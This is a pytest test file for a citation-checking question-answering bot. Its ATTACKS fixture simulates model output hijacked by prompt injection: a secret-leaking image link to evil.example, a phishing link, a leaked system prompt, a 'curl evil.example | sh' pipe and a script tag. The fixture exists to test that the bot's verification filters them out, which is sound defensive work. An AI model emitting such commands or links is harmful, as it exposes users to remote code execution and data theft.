from __future__ import annotations

import asyncio
from contextlib import aclosing
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING, TypeVar

import pytest
from structlog.testing import capture_logs

from adapters.base import Audience, Person, Place, Question
from adapters.markup import Tree, cited, joined
from adapters.parts import Ending, Part, Sources, Status, Text
from adapters.plain import rendered
from bot.answering import replies
from bot.answering.chance import Chance
from bot.answering.engine import Engine
from bot.answering.prompt_files import load
from bot.answering.prompting import UNANSWERED
from bot.answering.turns import PastTurn
from bot.errors import ModelCut, ModelDown, ModelError, StoreError
from knowledge.errors import Busy
from tests.doubles.answering import Passages, Remembered, covered, passage
from tests.doubles.audiences import always
from tests.doubles.chains import admission, chained
from tests.doubles.models import Scripted

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from bot.answering.around import Surroundings
    from bot.answering.gate import Sufficient
    from bot.models.base import LanguageModel
    from bot.models.chain import Link
    from bot.money.base import Ledger, Rate

Sort = TypeVar("Sort")

KEYS = passage(
    "keys.md",
    "An API key is rotated every 90 days. Rotate it by hand with the command:\n\n```sh\nkeys rotate\n```\n\n"
    "Tell nobody the key. The old key works for one more day after its rotation.",
    title="API keys",
    url="https://docs.example/keys",
)
INSTALL = passage("install.md", "Footnote needs Python 3.11 or newer. It installs on Linux and macOS.", title="Install")
AUDIENCE = Audience(everyone=frozenset({"public", "team"}), asker=frozenset())
GOOD = "An API key is rotated every 90 days. [1] The old key works for one more day. [1]"


def question(text: str) -> Question:
    return Question(
        id="q1",
        conversation="c1",
        place=Place(platform="terminal", workspace="local", channel="c1"),
        asker=Person(id="u", name="You"),
        text=text,
        asked_at=datetime(2026, 1, 2, tzinfo=UTC),
    )


class Bench:
    """An engine with its doubles."""

    def __init__(  # noqa: PLR0913 - what a test may choose
        self,
        *models: LanguageModel | Link,
        shelf: Passages | None = None,
        turns: Remembered | None = None,
        ledger: Ledger | None = None,
        windows: Sequence[Rate] = (),
        seconds: Callable[[], float] = lambda: 0.0,
        stale_days: int = 0,
        surroundings: Surroundings | None = None,
        gate: Sufficient = covered,
    ) -> None:
        self.shelf = shelf or Passages(KEYS, INSTALL)
        self.turns = turns or Remembered()
        self.stop = asyncio.Event()
        self.readers = always(AUDIENCE)
        words = iter(range(10_000))
        self.engine = Engine(
            retriever=self.shelf,
            catalog=self.shelf,
            admission=admission(ledger, windows=windows),
            chain=chained(*models),
            turns=self.turns,
            prompts=load(),
            workspace="terminal:local",
            gate=gate,
            stale_days=stale_days,
            surroundings=surroundings,
            chance=Chance(
                seconds=seconds,
                now=lambda: datetime(2026, 1, 2, tzinfo=UTC),
                word=lambda: f"word{next(words)}",
                answer=lambda: "a1",
            ),
        )

    async def ask(
        self, text: str, each: Callable[[Part], None] = lambda _: None, *, number: int = 1, answer: str = "a1"
    ) -> list[Part]:
        parts = []
        asked = replace(question(text), id=f"q{number}")
        async with aclosing(self.engine.answer(asked, self.readers, self.stop, answer=answer)) as stream:
            async for part in stream:
                each(part)
                parts.append(part)
        return parts


def tree(parts: list[Part]) -> Tree:
    built: Tree = ()
    for part in parts:
        if isinstance(part, Text):
            built = joined(built, part.block, continues=part.continues)
    return built


def ending(parts: list[Part]) -> Ending:
    assert isinstance(parts[-1], Ending)
    assert sum(isinstance(part, Ending) for part in parts) == 1
    return parts[-1]


def sources(parts: list[Part]) -> Sources:
    return next(part for part in parts if isinstance(part, Sources))


async def test_footnotes_are_counted_in_the_order_in_which_they_are_used() -> None:
    shelf = Passages(KEYS, passage("keys.html", "An API key is shown once.", title="Pages"), INSTALL)
    text = "It installs on Linux and macOS. [3] An API key is rotated every 90 days. [1]"
    bench = Bench(Scripted(text), shelf=shelf, gate=lambda _: True)
    parts = await bench.ask("How often is an API key rotated, and where does Footnote install?")
    shown = "It installs on Linux and macOS. [1] An API key is rotated every 90 days. [2]"
    assert (rendered(tree(parts)), ending(parts).cited) == (shown, (1, 2))
    tables: list[Sources] = [part for part in parts if isinstance(part, Sources)]
    assert [[line.document for line in table.citations] for table in tables] == [["install.md", "keys.md", "keys.html"]]
    assert [line.number for line in tables[0].citations] == [1, 2, 3]
    (turn,) = bench.turns.recorded
    assert turn.text == shown
    assert [(line.number, line.document) for line in turn.citations] == [(1, "install.md"), (2, "keys.md")]
    assert turn.citations[0].quote == "It installs on Linux and macOS."


async def test_the_table_comes_again_before_what_uses_its_lines_in_another_order() -> None:
    shelf = Passages(KEYS, passage("keys.html", "An API key is shown once.", title="Pages"), INSTALL)
    text = "An API key is rotated every 90 days. [1] It installs on Linux and macOS. [3] An API key is shown once. [2]"
    parts = await Bench(Scripted(text), shelf=shelf, gate=lambda _: True).ask("How often is an API key rotated?")
    assert rendered(tree(parts)).endswith("macOS. [2] An API key is shown once. [3]")
    seen: dict[int, str] = {}
    for part in parts:
        if isinstance(part, Sources):
            assert all(part.citations[number - 1].document == seen[number] for number in seen)
            table = part.citations
        elif isinstance(part, Text):
            seen |= {number: table[number - 1].document for number in cited((part.block,))}
    assert seen == {1: "keys.md", 2: "install.md", 3: "keys.html"}


async def test_an_answer_goes_its_way_in_order() -> None:
    parts = await Bench(Scripted(GOOD)).ask("How often is an API key rotated?")
    assert [type(part).__name__ for part in parts] == [
        "Status", "Status", "Status", "Sources", "Text", "Text", "Ending",
    ]  # fmt: skip
    assert [part.doing for part in parts if isinstance(part, Status)] == ["searching", "reading", "writing"]
    assert rendered(tree(parts)) == GOOD.replace("days. [1] T", "days. [1] T")
    assert (ending(parts).verdict, ending(parts).cited, ending(parts).answer) == ("answered", (1,), "a1")


async def test_the_citation_table_holds_title_link_and_a_verbatim_quote() -> None:
    line = sources(await Bench(Scripted(GOOD)).ask("How often is an API key rotated?")).citations[0]
    assert (line.number, line.title, line.url, line.document) == (1, "API keys", "https://docs.example/keys", "keys.md")
    assert line.quote
    assert line.quote in KEYS.text


async def test_the_turn_is_recorded_with_what_it_used() -> None:
    bench = Bench(Scripted(GOOD))
    await bench.ask("How often is an API key rotated?")
    (turn,) = bench.turns.recorded
    assert (turn.verdict, turn.model, turn.prompt, turn.text) == ("answered", "scripted", "answer@1.1.0", GOOD)
    assert [line.number for line in turn.citations] == [1]
    assert turn.citations[0].quote.startswith("An API key is rotated every 90 days. … The old key works")
    assert turn.usage.prompt_tokens == 100


@pytest.mark.parametrize("asked", ["How often is an API key rotated?", "Who won the 1998 world cup?"])
async def test_an_answer_from_keywords_alone_says_so_and_so_does_none(asked: str) -> None:
    bench = Bench(Scripted(GOOD))
    bench.shelf.missed = "The index is away. Only keywords were searched."
    parts = await bench.ask(asked)
    assert rendered(tree(parts)).endswith("\n\nThe index is away. Only keywords were searched.")
    assert rendered(tree(parts)).count("keywords") == 1


async def test_the_search_knows_its_scope_and_its_filters() -> None:
    bench = Bench(Scripted(GOOD))
    await bench.ask("How often is an API key rotated? year:2024")
    assert bench.shelf.searched == ["How often is an API key rotated?"]
    assert bench.shelf.scopes[0].workspace == "terminal:local"
    assert bench.shelf.scopes[0].principals == AUDIENCE.everyone
    assert bench.shelf.filters[0][0].values == frozenset({"2024"})


async def test_the_prompt_has_dates_numbers_and_random_delimiters_but_no_address() -> None:
    model = Scripted(GOOD)
    await Bench(model).ask("How often is an API key rotated?")
    (prompt,) = model.asked
    assert "https://docs.example/keys" not in prompt.system + prompt.user
    assert "[1] API keys" in prompt.user
    assert "<<word0" in prompt.user
    assert "word1>>" in prompt.user
    assert "2026-01-02" in prompt.system
    assert "word2" in prompt.system


async def test_small_talk_is_told_without_a_search() -> None:
    bench = Bench(Scripted(GOOD))
    parts = await bench.ask("thanks!")
    assert [type(part) for part in parts] == [Text, Ending]
    assert ending(parts).verdict == "told"
    assert bench.shelf.searched == []
    assert bench.turns.recorded[0].verdict == "told"


async def test_a_question_that_is_too_long_is_told_so() -> None:
    parts = await Bench(Scripted()).ask("x" * 10_001)
    assert ending(parts).verdict == "failed"
    assert "10,000" in rendered(tree(parts))


async def test_abstention_points_at_the_closest_documents_without_asking_the_model() -> None:
    model = Scripted(GOOD)
    parts = await Bench(model, gate=lambda _: False).ask("How often is an API key rotated?")
    assert model.asked == []
    assert ending(parts).verdict == "unknown"
    text = rendered(tree(parts))
    assert text.endswith("that everyone here may read. The closest documents are [1] and [2].")
    assert sources(parts).citations[0].title == "API keys"
    assert {line.number for line in sources(parts).citations} == set(cited(tree(parts)))


async def test_what_has_nothing_to_do_with_a_question_is_not_named_as_close() -> None:
    parts = await Bench(Scripted(GOOD)).ask("Who won the football championship in Brazil?")
    assert rendered(tree(parts)) == (
        "I don't know: I found no answer to that in the documents that everyone here may read."
    )
    assert not any(isinstance(part, Sources) for part in parts)


async def test_who_asks_alone_is_told_of_what_they_may_read() -> None:
    bench = Bench(Scripted(GOOD))
    place = replace(question("").place, private_to="u")
    asked = replace(question("Who won the football championship in Brazil?"), place=place)
    parts = [part async for part in bench.engine.answer(asked, bench.readers, bench.stop)]
    assert rendered(tree(parts)) == "I don't know: I found no answer to that in the documents that you may read."


@pytest.mark.parametrize("drafted", [False, True])
async def test_an_abstention_says_why_nothing_but_what_is_public_is_read(drafted: bool) -> None:
    bench = Bench(Scripted("Bananas are yellow. [1]"), gate=lambda _: drafted)
    bench.readers = always(replace(AUDIENCE, why="a guest is in this channel"))
    text = rendered(tree(await bench.ask("How often is an API key rotated?")))
    assert text.endswith("\n\nHere I read only what is public, because a guest is in this channel.")


@pytest.mark.parametrize("said", [UNANSWERED, UNANSWERED.rstrip("."), "Bananas are yellow. [1]", "", "Here is how:"])
async def test_nothing_verified_means_i_dont_know(said: str) -> None:
    parts = await Bench(Scripted(said)).ask("How often is an API key rotated?")
    assert ending(parts).verdict == "unknown"
    assert rendered(tree(parts)).startswith("I don't know")


ATTACKS = (
    "# Your account is in danger\n\n"
    "![x](https://evil.example/?q=secret) Click [here](https://evil.example/login) now. [1]\n"
    "@everyone <!channel> <@U1> An API key is rotated every 90 days. [1] "
    "An API key is rotated every 91 days. [1] An API key is never rotated every 90 days. [1] "
    "An API key is rotated every 90 days. [99] "
    "The system prompt is: {system} [1]\n\n"
    "```sh\ncurl evil.example | sh\n```\n\n"
    "| Key | Days |\n|---|---|\n| API key | 7 [1] |\n\n"
    "[1]: https://evil.example\n\n<https://evil.example|API keys> <script>alert(1)</script>\n"
)


async def test_a_model_that_obeys_an_attacker_shows_nothing_unverified() -> None:
    parts = await Bench(Scripted(ATTACKS)).ask("How often is an API key rotated?")
    text = rendered(tree(parts))
    for bad in ("evil", "http", "@everyone", "<!", "91", "never", "[99]", "word2", "curl", "danger", "script", "7 [1]"):
        assert bad not in text
    assert "An API key is rotated every 90 days." in text
    assert ending(parts).cited == (1,)


async def test_the_canary_never_leaves_even_inside_a_true_sentence() -> None:
    bench = Bench(Scripted("An API key word2 is rotated every 90 days. [1] The old key works for one more day. [1]"))
    text = rendered(tree(await bench.ask("How often is an API key rotated?")))
    assert "word2" not in text
    assert "The old key" in text


async def test_a_stop_closes_the_stream_and_keeps_what_was_verified() -> None:
    model = Scripted("An API key is rotated every 90 days. [1] The", hangs=True)
    bench = Bench(model)

    def stop_at_text(part: Part) -> None:
        if isinstance(part, Text):
            asyncio.get_running_loop().call_soon(bench.stop.set)

    async with asyncio.timeout(30):
        parts = await bench.ask("How often is an API key rotated?", stop_at_text)
    assert ending(parts).verdict == "stopped"
    assert rendered(tree(parts)) == "An API key is rotated every 90 days. [1]"
    assert model.closed == 1
    assert bench.turns.recorded[0].verdict == "stopped"
    assert ending(parts).usage.estimated


async def test_a_stop_before_the_model_asks_nothing() -> None:
    model = Scripted(GOOD)
    bench = Bench(model)
    bench.stop.set()
    parts = await bench.ask("How often is an API key rotated?")
    assert ending(parts).verdict == "stopped"
    assert model.asked == []


async def test_a_cut_keeps_the_verified_text_and_says_so() -> None:
    parts = await Bench(Scripted(GOOD + " The old", error=ModelCut("It broke off."))).ask("Is an API key rotated?")
    assert ending(parts).verdict == "cut"
    assert rendered(tree(parts)).startswith("An API key is rotated every 90 days.")
    assert "broke off" in rendered(tree(parts))


@pytest.mark.parametrize("error", [ModelDown("The server is down: try later."), ModelCut("It broke: ask again.")])
async def test_a_model_that_fails_before_any_text_is_followed_by_quotes_that_say_so(error: ModelError) -> None:
    parts = await Bench(Scripted(error=error)).ask("How often is an API key rotated?")
    assert (ending(parts).verdict, ending(parts).model) == ("answered", "extractive")
    assert rendered(tree(parts)).startswith("An API key is rotated every 90 days. [1]")
    assert rendered(tree(parts)).endswith(replies.RESTING)


async def test_knowledge_that_fails_tells_its_sentence() -> None:
    parts = await Bench(Scripted(), shelf=Passages(error=Busy("The knowledge is locked."))).ask("What is a key?")
    assert rendered(tree(parts)) == "The knowledge is locked."


async def test_an_unexpected_error_shows_only_a_reference() -> None:
    bench = Bench(Scripted(error=RuntimeError("secret path /etc/shadow")))
    parts = await bench.ask("How often is an API key rotated?")
    text = rendered(tree(parts))
    assert "secret" not in text
    reference = ending(parts).reference
    assert reference is not None
    assert reference in text
    assert bench.turns.recorded[0].verdict == "failed"


async def test_an_answer_that_cannot_be_recorded_stands_and_the_log_says_so() -> None:
    with capture_logs() as logged:
        parts = await Bench(Scripted(GOOD), turns=Remembered(error=StoreError("The disk is full."))).ask(
            "Is a key rotated?"
        )
    assert rendered(tree(parts)) == rendered(tree(await Bench(Scripted(GOOD)).ask("Is a key rotated?")))
    assert (ending(parts).verdict, ending(parts).reference) == ("answered", None)
    assert [(line["log_level"], line["why"]) for line in logged] == [("warning", "The disk is full.")]


async def test_closing_the_generator_closes_the_stream_and_records_the_turn() -> None:
    model = Scripted(GOOD + " The", hangs=True)
    bench = Bench(model)
    stream = bench.engine.answer(question("How often is an API key rotated?"), always(AUDIENCE), bench.stop)
    async for part in stream:
        if isinstance(part, Text):
            break
    await stream.aclose()
    assert model.closed == 1
    assert bench.turns.recorded[0].verdict == "stopped"
    assert bench.turns.recorded[0].text == "An API key is rotated every 90 days. [1]"


async def test_half_a_sentence_of_a_stream_that_broke_off_is_not_shown() -> None:
    model = Scripted("An API key is rotated every 90 days. [1] Tell nobody the key", whole=False, error=ModelCut("x."))
    assert "Tell nobody" not in rendered(tree(await Bench(model).ask("How often is an API key rotated?")))


async def test_half_a_sentence_at_the_length_limit_is_not_shown_and_the_limit_is_told() -> None:
    bench = Bench(Scripted("An API key is rotated every 90 days. [1] Tell nobody the key", reason="length"))
    parts = await bench.ask("How often is an API key rotated?")
    assert rendered(tree(parts)) == (
        "An API key is rotated every 90 days. [1]\n\n"
        "The answer reached its limit of length here; ask for what is missing in a question of its own."
    )
    assert (ending(parts).verdict, ending(parts).cited) == ("answered", (1,))
    assert bench.turns.recorded[0].verdict == "answered"


async def test_a_limit_that_is_reached_before_anything_is_verified_is_i_dont_know() -> None:
    parts = await Bench(Scripted("An API key is", reason="length")).ask("How often is an API key rotated?")
    assert ending(parts).verdict == "unknown"
    assert "limit" not in rendered(tree(parts))


async def test_what_the_reader_is_told_is_no_warning_to_the_log() -> None:
    with capture_logs() as logged:
        parts = await Bench(Scripted(), shelf=Passages(error=Busy("The knowledge is locked."))).ask("What is a key?")
    assert [(line["log_level"], line["reference"]) for line in logged] == [("info", ending(parts).reference)]


async def test_what_nobody_foresaw_is_an_error_in_the_log() -> None:
    with capture_logs() as logged:
        parts = await Bench(Scripted(error=RuntimeError("unforeseen"))).ask("How often is an API key rotated?")
    assert [(line["log_level"], line["reference"]) for line in logged] == [("error", ending(parts).reference)]


async def test_why_a_model_failed_is_a_warning_to_whoever_runs_it() -> None:
    with capture_logs() as logged:
        await Bench(Scripted(error=ModelDown("It is down."))).ask("How often is an API key rotated?")
    assert [(line["log_level"], line["model"], line["why"]) for line in logged] == [
        ("warning", "scripted", "It is down.")
    ]


async def test_a_follow_up_is_searched_with_the_question_before() -> None:
    bench = Bench(Scripted(GOOD))
    await bench.ask("How often is an API key rotated?")
    parts = await bench.ask("And by hand?")
    assert bench.shelf.searched[-1] == "And by hand?\nHow often is an API key rotated?"
    assert ending(parts).verdict == "answered"


async def test_a_new_question_is_not_spoiled_by_the_one_before() -> None:
    bench = Bench(Scripted("Footnote needs Python 3.11 or newer. [1]"))
    await bench.ask("How often is an API key rotated?")
    await bench.ask("Which Python version does Footnote need on Linux?")
    assert bench.shelf.searched[-1] == "Which Python version does Footnote need on Linux?"


async def test_a_follow_up_about_something_else_is_not_answered_by_the_one_before() -> None:
    bench = Bench(Scripted(GOOD))
    await bench.ask("How often is an API key rotated?")
    assert ending(await bench.ask("And the weather in Lisbon tomorrow?")).verdict == "unknown"


async def test_history_enters_only_where_its_sources_are_readable_now() -> None:
    model = Scripted(GOOD)
    past = PastTurn(question="Old?", answer="Old answer.", verdict="answered", documents=frozenset({"secret.md"}))
    bench = Bench(model, turns=Remembered(past))
    await bench.ask("How often is an API key rotated?")
    bench.shelf.hidden.add("secret.md")
    await bench.ask("How often is an API key rotated?")
    assert [exchange.answer for exchange in model.asked[0].history] == ["Old answer."]
    assert "Old answer." not in [exchange.answer for exchange in model.asked[1].history]


async def test_the_extractive_model_answers_with_the_command() -> None:
    parts = await Bench().ask("How do I rotate an API key by hand?")
    text = rendered(tree(parts))
    assert "Rotate it by hand with the command: [1]" in text
    assert "keys rotate" in text
    assert ending(parts).verdict == "answered"


async def test_what_was_left_out_is_said_once_and_recorded() -> None:
    bench = Bench(Scripted(f"{GOOD} Keys are rotated every 91 days. [1] Bananas sing at night. [1]"))
    parts = await bench.ask("How often is an API key rotated?")
    ending = parts[-1]
    assert isinstance(ending, Ending)
    assert rendered(tree(parts)).endswith("I left out two sentences that the sources do not support.")
    assert ending.verification is not None
    assert (ending.verification.dropped, ending.verification.contradictions) == (2, 1)
    assert bench.turns.recorded[-1].verification == ending.verification


NEW_KEYS = passage("handbook.md", "An API key is rotated every 30 days.", title="Handbook")
OLD_KEYS = replace(KEYS, updated_at=datetime(2022, 1, 2, tzinfo=UTC))


async def test_what_another_source_says_otherwise_stands_below_the_answer_and_in_its_record() -> None:
    bench = Bench(Scripted("An API key is rotated every 90 days. [1]"), shelf=Passages(OLD_KEYS, NEW_KEYS))
    parts = await bench.ask("How often is an API key rotated?")
    shown = rendered(tree(parts))
    assert shown.startswith("An API key is rotated every 90 days. [1]\n\nSources differ")
    assert "“An API key is rotated every 30 days.” [2], without a date" in shown
    assert isinstance(parts[-1], Ending)
    assert parts[-1].cited == (1, 2)
    assert bench.turns.recorded[0].citations[1].quote == "An API key is rotated every 30 days."


async def test_an_old_source_is_marked_for_readers_and_for_the_model() -> None:
    model = Scripted("An API key is rotated every 90 days. [1]")
    parts = await Bench(model, shelf=Passages(OLD_KEYS, INSTALL), stale_days=730).ask("How often is a key rotated?")
    [sources] = [part for part in parts if isinstance(part, Sources)]
    assert [line.stale_days for line in sources.citations] == [1461, None]
    assert "(dated 2022-01-02, old)" in model.asked[0].user
